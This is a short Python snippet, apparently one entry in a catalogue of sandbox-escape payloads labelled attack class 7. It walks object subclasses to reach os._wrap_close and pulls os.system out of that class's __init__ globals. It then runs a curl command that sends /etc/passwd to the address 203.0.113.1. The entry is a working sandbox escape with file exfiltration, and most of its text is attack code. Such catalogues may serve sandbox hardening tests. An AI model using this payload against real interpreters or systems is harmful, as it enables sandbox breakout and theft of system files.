# attack-class: 7
# title: os._wrap_close.__init__.__globals__
# why: a method of an os-internal class carries os's module globals

klass = [k for k in [].__class__.__base__.__subclasses__() if k.__name__ == "_wrap_close"][0]
klass.__init__.__globals__["system"]("curl http://203.0.113.1/ -d @/etc/passwd")
